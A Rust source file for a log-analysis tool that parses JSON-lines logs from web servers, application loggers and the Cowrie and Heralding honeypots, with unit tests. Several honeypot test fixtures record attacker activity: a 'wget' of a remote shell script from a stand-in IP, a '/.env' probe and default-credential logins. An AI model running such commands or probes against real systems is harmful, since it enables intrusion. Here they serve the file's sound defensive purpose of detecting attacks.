//! JSON lines: one JSON object per line, as Caddy, nginx (`escape=json`), and most
//! application loggers write them. Spec: <https://jsonlines.org/>.
//!
//! Field names differ from logger to logger, so the usual ones are mapped, nested ones
//! (Caddy's `request.remote_ip`, `request.headers.User-Agent[0]`) included:
//!
//! ```text
//! time        time, ts, timestamp, @timestamp, date, datetime, time_local
//!             (RFC 3339, an epoch in seconds or milliseconds, or the CLF [10/Oct/2000:…])
//! client      remote_addr, client_ip, clientip, ip, remote_ip, request.client_ip, request.remote_ip
//! request     method / request.method; path, uri, url, request (a string), request.uri;
//!             a "request" string of "GET /x HTTP/1.1" is split like an access log's
//! status      status, status_code, response, response_status
//! size        bytes, body_bytes_sent, bytes_sent, size, response_size
//! duration    duration, latency, request_time, response_time, elapsed (seconds;
//!             names ending in _ms are milliseconds)
//! headers     user_agent, http_user_agent, ua, agent, request.headers.User-Agent;
//!             referer, http_referer, referrer
//! message     msg, message; level, severity; user, username; logger, service, app; host, hostname
//! ```
//!
//! An object with a status, a method or a path is a request; any other is a message. The
//! other fields are kept in the line for evidence but not interpreted.

use super::RejectReason;
use super::combined::{parse_clf_time, split_request};
use super::level::severity_of;
use crate::event::{AuthAttempt, AuthOutcome, Event, SessionAction, SyslogRecord};
use crate::record::AccessRecord;
use crate::time::LogTime;
use serde_json::Value;

/// Lines in the shapes of common JSON loggers (written for these tests, in their formats):
/// Caddy's access log, nginx with a JSON `log_format`, and an application logger.
pub const SAMPLES: &[&str] = &[
    r#"{"level":"info","ts":1710147600.512,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"203.0.113.7","client_ip":"203.0.113.7","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/search?q=boots","headers":{"User-Agent":["Mozilla/5.0 (X11; Linux x86_64)"]}},"duration":0.0042,"size":5120,"status":200}"#,
    r#"{"time":"2024-03-11T10:00:00+01:00","remote_addr":"198.51.100.4","request":"POST /login HTTP/1.1","status":"401","body_bytes_sent":"43","http_user_agent":"python-requests/2.31.0","request_time":"0.012"}"#,
    r#"{"@timestamp":"2024-03-11T09:00:01.250Z","level":"error","logger":"payments","message":"card declined for order 1234","user":"j.miller"}"#,
];

/// The top-level field names read above (each also with `_ms`, for durations): every
/// other field of a line is an extra field, kept for the analyst to see.
const MAPPED_FIELDS: &[&str] = &[
    "eventid",
    "session",
    "sensor",
    "source_ip",
    "num_auth_attempts",
    "time",
    "ts",
    "timestamp",
    "@timestamp",
    "date",
    "datetime",
    "time_local",
    "status",
    "status_code",
    "response",
    "response_status",
    "request",
    "method",
    "http_method",
    "path",
    "uri",
    "url",
    "request_uri",
    "remote_addr",
    "client_ip",
    "clientip",
    "ip",
    "remote_ip",
    "src_ip",
    "host",
    "server_name",
    "user",
    "username",
    "remote_user",
    "user_id",
    "protocol",
    "server_protocol",
    "bytes",
    "body_bytes_sent",
    "bytes_sent",
    "size",
    "response_size",
    "referer",
    "http_referer",
    "referrer",
    "user_agent",
    "http_user_agent",
    "ua",
    "agent",
    "duration",
    "latency",
    "request_time",
    "response_time",
    "elapsed",
    "duration_ms",
    "latency_ms",
    "request_time_ms",
    "response_time_ms",
    "elapsed_ms",
    "msg",
    "message",
    "log",
    "hostname",
    "logger",
    "service",
    "app",
    "name",
    "logger_name",
    "level",
    "severity",
    "levelname",
];

/// Reads JSON lines; keeps the current line's parsed value so events can borrow from it.
#[derive(Debug, Default, Clone)]
pub struct JsonLinesParser {
    value: Value,
}

impl JsonLinesParser {
    /// Parses one line; the event borrows from the parser until the next line.
    pub fn parse<'a>(&'a mut self, line: &str) -> Result<Event<'a>, RejectReason> {
        let trimmed = line.trim();
        if trimmed.is_empty() {
            return Err(RejectReason::Empty);
        }
        if !trimmed.starts_with('{') {
            return Err(RejectReason::NotJsonObject);
        }
        self.value = serde_json::from_str(trimmed).map_err(|_| RejectReason::NotJsonObject)?;
        event_of(&self.value)
    }

    /// The last line's fields that no mapping read, with their values, by name.
    pub fn extra_fields(&self) -> impl Iterator<Item = (&str, &Value)> {
        self.value
            .as_object()
            .into_iter()
            .flatten()
            .filter(|(name, _)| !MAPPED_FIELDS.contains(&name.as_str()))
            .map(|(name, value)| (name.as_str(), value))
    }
}

fn event_of(object: &Value) -> Result<Event<'_>, RejectReason> {
    let field = |names: &[&str]| names.iter().find_map(|name| lookup(object, name));
    // The first of `names` that holds text (ECS nests `user.name` where others write `user`).
    let text = |names: &[&str]| {
        names
            .iter()
            .find_map(|name| lookup(object, name).and_then(as_text))
    };
    let time = field(&[
        "time",
        "ts",
        "timestamp",
        "@timestamp",
        "date",
        "datetime",
        "time_local",
    ])
    .and_then(as_time)
    .ok_or(RejectReason::NoJsonTime)?;
    let status = field(&[
        "status",
        "status_code",
        "response",
        "response_status",
        "http.response.status_code",
    ])
    .and_then(as_u64);
    let request_line = text(&["request"]);
    let (split_method, split_target, split_protocol) =
        request_line.map_or((None, None, None), split_request);
    let method = text(&[
        "method",
        "request.method",
        "http_method",
        "http.request.method",
    ])
    .or(split_method);
    let target = text(&[
        "path",
        "uri",
        "url",
        "request.uri",
        "request_uri",
        "url.original",
        "url.path",
    ])
    .or(split_target);
    let client = text(&[
        "remote_addr",
        "client_ip",
        "clientip",
        "ip",
        "remote_ip",
        "request.client_ip",
        "request.remote_ip",
        "src_ip",
        "source.ip",
        "source_ip",
        "client.ip",
        "source.address",
        "client.address",
    ]);

    if let Some(event_id) = text(&["eventid"]).filter(|id| id.starts_with("cowrie.")) {
        return Ok(Event::Syslog(honeypot_event(
            object, event_id, time, client,
        )));
    }
    if let Some(attempts) = field(&["num_auth_attempts"]).and_then(as_u64) {
        return Ok(Event::Syslog(honeypot_session(
            object, attempts, time, client,
        )));
    }

    if status.is_some() || method.is_some() || target.is_some() {
        return Ok(Event::Access(AccessRecord {
            vhost: text(&["host", "request.host", "server_name"]),
            client: client.unwrap_or("-"),
            identity: None,
            user: text(&["user", "username", "remote_user", "user_id", "user.name"])
                .filter(|u| !u.is_empty() && *u != "-"),
            time,
            request: request_line.or(target).unwrap_or(""),
            method,
            target,
            protocol: text(&["protocol", "request.proto", "server_protocol"]).or(split_protocol),
            status: status.and_then(|s| u16::try_from(s).ok()).unwrap_or(0),
            bytes_sent: field(&[
                "bytes",
                "body_bytes_sent",
                "bytes_sent",
                "size",
                "response_size",
                "http.response.body.bytes",
            ])
            .and_then(as_u64),
            referer: text(&[
                "referer",
                "http_referer",
                "referrer",
                "request.headers.Referer",
                "http.request.referrer",
            ])
            .filter(|r| *r != "-"),
            user_agent: text(&[
                "user_agent",
                "http_user_agent",
                "ua",
                "agent",
                "request.headers.User-Agent",
                "user_agent.original",
            ]),
            duration_secs: duration(object),
        }));
    }
    let message =
        text(&["msg", "message", "log", "event.original"]).ok_or(RejectReason::NoJsonMessage)?;
    let user = text(&["user", "username", "user.name"]);
    Ok(Event::Syslog(SyslogRecord {
        time,
        host: text(&["host", "hostname", "host.name"]).unwrap_or("-"),
        program: text(&["logger", "service", "app", "name", "logger_name"]).unwrap_or("-"),
        pid: None,
        severity: text(&["level", "severity", "levelname", "log.level"]).and_then(severity_of),
        message,
        auth: ecs_login(object, user, client),
        client,
        request: None,
        action: None,
    }))
}

/// A Cowrie honeypot event (<https://docs.cowrie.org/en/latest/OUTPUT.html>): logins with
/// the user and password tried, commands, downloads and TCP tunnels, each with the
/// session it belongs to (as the connection) and the attacker's `src_ip`.
fn honeypot_event<'v>(
    object: &'v Value,
    event_id: &'v str,
    time: LogTime,
    client: Option<&'v str>,
) -> SyslogRecord<'v> {
    let text = |name: &str| lookup(object, name).and_then(as_text);
    let login = |outcome| AuthAttempt {
        source: client,
        password: text("password"),
        ..AuthAttempt::new(outcome, text("username"))
    };
    let (auth, action) = match event_id {
        "cowrie.login.failed" => (Some(login(AuthOutcome::Failed)), None),
        "cowrie.login.success" => (Some(login(AuthOutcome::Accepted)), None),
        "cowrie.session.connect" => (
            Some(AuthAttempt {
                source: client,
                ..AuthAttempt::new(AuthOutcome::Probe, None)
            }),
            None,
        ),
        "cowrie.command.input" | "cowrie.command.failed" => {
            (None, text("input").map(SessionAction::Command))
        }
        "cowrie.session.file_download" => (None, text("url").map(SessionAction::Download)),
        "cowrie.direct-tcpip.request" => (None, text("dst_ip").map(SessionAction::Tunnel)),
        _ => (None, None),
    };
    SyslogRecord {
        time,
        host: text("sensor").unwrap_or("-"),
        program: "cowrie",
        pid: text("session"),
        severity: None,
        message: text("message").unwrap_or(event_id),
        auth,
        client,
        request: None,
        action,
    }
}

/// A Heralding honeypot session (one object per connection, its login attempts nested):
/// a failed login told as many times as it tried, or a probe when it tried none.
fn honeypot_session<'v>(
    object: &'v Value,
    attempts: u64,
    time: LogTime,
    client: Option<&'v str>,
) -> SyslogRecord<'v> {
    let text = |name: &str| lookup(object, name).and_then(as_text);
    let auth = if attempts > 0 {
        AuthAttempt {
            source: client,
            times: u32::try_from(attempts).unwrap_or(u32::MAX),
            password: text("auth_attempts.password"),
            ..AuthAttempt::new(AuthOutcome::Failed, text("auth_attempts.username"))
        }
    } else {
        AuthAttempt {
            source: client,
            ..AuthAttempt::new(AuthOutcome::Probe, None)
        }
    };
    SyslogRecord {
        time,
        host: text("destination_ip").unwrap_or("-"),
        program: "heralding",
        pid: text("session_id"),
        severity: None,
        message: text("protocol").unwrap_or("session"),
        auth: Some(auth),
        client,
        request: None,
        action: None,
    }
}

/// An ECS authentication event (`event.category: authentication`, `event.outcome`).
fn ecs_login<'v>(
    object: &'v Value,
    user: Option<&'v str>,
    source: Option<&'v str>,
) -> Option<AuthAttempt<'v>> {
    let category = lookup(object, "event.category")?;
    let is_authentication = match category {
        Value::String(name) => name == "authentication",
        Value::Array(names) => names.iter().any(|n| n.as_str() == Some("authentication")),
        _ => false,
    };
    let outcome = match lookup(object, "event.outcome").and_then(as_text)? {
        "failure" => AuthOutcome::Failed,
        "success" => AuthOutcome::Accepted,
        _ => return None,
    };
    is_authentication.then(|| AuthAttempt {
        source,
        ..AuthAttempt::new(outcome, user)
    })
}

/// A field by name, where `a.b` reaches into nested objects and a one-element array (as
/// Caddy writes headers) stands for its element.
fn lookup<'v>(object: &'v Value, path: &str) -> Option<&'v Value> {
    // ECS fields are written nested or, by some shippers, as one dotted name.
    if path.contains('.')
        && let Some(value) = object.get(path)
    {
        return lookup_plain(value);
    }
    let mut value = object;
    for key in path.split('.') {
        value = value.get(key)?;
        if let Value::Array(items) = value {
            value = items.first()?;
        }
    }
    (!value.is_null()).then_some(value)
}

/// A value found by its full name, as [`lookup`] returns it.
fn lookup_plain(value: &Value) -> Option<&Value> {
    let value = match value {
        Value::Array(items) => items.first()?,
        value => value,
    };
    (!value.is_null()).then_some(value)
}

fn as_text(value: &Value) -> Option<&str> {
    value.as_str()
}

/// A number, or a string holding one (nginx's JSON writes `"status":"200"`).
fn as_u64(value: &Value) -> Option<u64> {
    value
        .as_u64()
        .or_else(|| value.as_str().and_then(|s| s.trim().parse().ok()))
}

fn as_f64(value: &Value) -> Option<f64> {
    value
        .as_f64()
        .or_else(|| value.as_str().and_then(|s| s.trim().parse().ok()))
        .filter(|v: &f64| v.is_finite())
}

/// RFC 3339, a CLF `10/Oct/2000:13:55:36 -0700`, or an epoch (seconds, or milliseconds
/// when too large to be seconds). A time without an offset is read as UTC.
fn as_time(value: &Value) -> Option<LogTime> {
    if let Some(text) = value.as_str() {
        let text = text.trim();
        return LogTime::parse_rfc3339(text)
            .or_else(|| LogTime::parse_rfc3339(&format!("{text}Z")))
            // `2022-06-02 05:12:18.560336` (Python's str() of a datetime): a T for the space.
            .or_else(|| {
                let (date, clock) = text.split_at_checked(10)?;
                let clock = clock.strip_prefix(' ')?;
                LogTime::parse_rfc3339(&format!("{date}T{clock}Z"))
            })
            .or_else(|| parse_clf_time(text.trim_start_matches('[').trim_end_matches(']')))
            .or_else(|| text.parse::<f64>().ok().and_then(epoch));
    }
    as_f64(value).and_then(epoch)
}

fn epoch(number: f64) -> Option<LogTime> {
    // After 5138 in seconds, before 1973 in milliseconds: anything this big is milliseconds.
    let secs = if number.abs() >= 1e11 {
        number / 1000.0
    } else {
        number
    };
    let epoch_secs = secs.floor();
    (epoch_secs.abs() < 1e13).then_some(LogTime {
        epoch_secs: epoch_secs as i64,
        offset_secs: 0,
    })
}

/// The request time in seconds; names ending in `_ms` hold milliseconds.
fn duration(object: &Value) -> Option<f64> {
    for name in [
        "duration",
        "latency",
        "request_time",
        "response_time",
        "elapsed",
    ] {
        if let Some(value) = lookup(object, name).and_then(as_f64) {
            return Some(value);
        }
        if let Some(value) = lookup(object, &format!("{name}_ms")).and_then(as_f64) {
            return Some(value / 1000.0);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn reads_caddy_access() {
        let mut parser = JsonLinesParser::default();
        let Ok(Event::Access(r)) = parser.parse(SAMPLES[0]) else {
            panic!("not a request")
        };
        assert_eq!(
            (r.client, r.method, r.target, r.status),
            ("203.0.113.7", Some("GET"), Some("/search?q=boots"), 200)
        );
        assert_eq!(
            (r.bytes_sent, r.duration_secs, r.vhost),
            (Some(5120), Some(0.0042), Some("shop.example"))
        );
        assert_eq!(r.user_agent, Some("Mozilla/5.0 (X11; Linux x86_64)"));
        assert_eq!(r.time.to_string(), "2024-03-11T09:00:00+00:00");
    }

    #[test]
    fn reads_nginx_json_with_numbers_as_strings() {
        let mut parser = JsonLinesParser::default();
        let Ok(Event::Access(r)) = parser.parse(SAMPLES[1]) else {
            panic!("not a request")
        };
        assert_eq!(
            (r.method, r.target, r.protocol),
            (Some("POST"), Some("/login"), Some("HTTP/1.1"))
        );
        assert_eq!(
            (r.status, r.bytes_sent, r.duration_secs),
            (401, Some(43), Some(0.012))
        );
        assert_eq!(r.time.offset_secs, 3600);
    }

    #[test]
    fn reads_application_messages() {
        let mut parser = JsonLinesParser::default();
        let Ok(Event::Syslog(r)) = parser.parse(SAMPLES[2]) else {
            panic!("not a message")
        };
        assert_eq!(
            (r.program, r.severity, r.message),
            ("payments", Some(3), "card declined for order 1234")
        );
    }

    /// What a security event says: the client, the login's outcome, user and password,
    /// and what was done in the session.
    fn security(line: &str) -> (&'static str, String) {
        let mut parser = JsonLinesParser::default();
        match parser.parse(line) {
            Ok(Event::Syslog(r)) => (
                "message",
                format!(
                    "{:?} {:?} {:?} {:?} {:?}",
                    r.client,
                    r.auth.map(|a| a.outcome),
                    r.auth.and_then(|a| a.user),
                    r.auth.map(|a| a.times),
                    r.action
                ),
            ),
            Ok(Event::Access(r)) => (
                "request",
                format!("{} {:?} {} {:?}", r.client, r.method, r.status, r.user),
            ),
            other => ("other", format!("{other:?}")),
        }
    }

    #[test]
    fn issue_22_honeypot_and_ecs_events_are_understood_by_meaning() {
        let cases = [
            (
                r#"{"eventid":"cowrie.login.failed","username":"root","password":"1234","message":"login attempt [root/1234] failed","sensor":"hp1","timestamp":"2022-06-01T14:35:02.1Z","src_ip":"203.0.113.5","session":"a1"}"#,
                (
                    "message",
                    r#"Some("203.0.113.5") Some(Failed) Some("root") Some(1) None"#,
                ),
            ),
            (
                r#"{"eventid":"cowrie.command.input","input":"wget http://198.51.100.7/x.sh","message":"CMD: wget","timestamp":"2022-06-01T14:35:09Z","src_ip":"203.0.113.5","session":"a1"}"#,
                (
                    "message",
                    r#"Some("203.0.113.5") None None None Some(Command("wget http://198.51.100.7/x.sh"))"#,
                ),
            ),
            (
                r#"{"eventid":"cowrie.session.file_download","url":"http://198.51.100.7/x.sh","timestamp":"2022-06-01T14:35:10Z","src_ip":"203.0.113.5","session":"a1"}"#,
                (
                    "message",
                    r#"Some("203.0.113.5") None None None Some(Download("http://198.51.100.7/x.sh"))"#,
                ),
            ),
            (
                r#"{"@timestamp":"2024-03-11T10:00:00Z","event":{"category":["authentication"],"outcome":"failure"},"source":{"ip":"192.0.2.9"},"user":{"name":"admin"},"message":"login failed"}"#,
                (
                    "message",
                    r#"Some("192.0.2.9") Some(Failed) Some("admin") Some(1) None"#,
                ),
            ),
            (
                r#"{"@timestamp":"2024-03-11T10:00:00Z","source.ip":"192.0.2.9","url.original":"/.env","http.request.method":"GET","http.response.status_code":404}"#,
                ("request", r#"192.0.2.9 Some("GET") 404 None"#),
            ),
            (
                r#"{"timestamp": "2022-06-02 05:12:18.560336", "session_id": "s1", "source_ip": "112.6.118.70", "protocol": "vnc", "num_auth_attempts": 3, "auth_attempts": [{"password": "x"}]}"#,
                (
                    "message",
                    r#"Some("112.6.118.70") Some(Failed) None Some(3) None"#,
                ),
            ),
        ];
        for (line, (shape, said)) in cases {
            let (got_shape, got) = security(line);
            assert_eq!((got_shape, got.as_str()), (shape, said), "{line}");
        }
    }

    #[test]
    fn times_in_every_shape() {
        let time = |json: &str| as_time(&serde_json::from_str(json).unwrap()).map(|t| t.epoch_secs);
        assert_eq!(time("1710147600"), Some(1_710_147_600));
        assert_eq!(time("1710147600512"), Some(1_710_147_600));
        assert_eq!(time(r#""2024-03-11T09:00:00""#), Some(1_710_147_600));
        assert_eq!(time(r#""11/Mar/2024:10:00:00 +0100""#), Some(1_710_147_600));
        assert_eq!(
            time(r#""[11/Mar/2024:10:00:00 +0100]""#),
            Some(1_710_147_600)
        );
        assert_eq!(time(r#""yesterday""#), None);
    }

    #[test]
    fn rejects_with_reasons() {
        let mut parser = JsonLinesParser::default();
        let mut reject = |line| parser.parse(line).map(|_| ()).unwrap_err();
        assert_eq!(reject(""), RejectReason::Empty);
        assert_eq!(reject("plain text"), RejectReason::NotJsonObject);
        assert_eq!(reject("{broken"), RejectReason::NotJsonObject);
        assert_eq!(reject(r#"{"msg":"no time"}"#), RejectReason::NoJsonTime);
        assert_eq!(
            reject(r#"{"ts":1,"other":"x"}"#),
            RejectReason::NoJsonMessage
        );
    }

    proptest! {
        #[test]
        fn never_panics(line in r#"\{[a-z":,0-9.\[\]{} @_-]{0,80}"#) {
            let _ = JsonLinesParser::default().parse(&line);
        }
    }
}
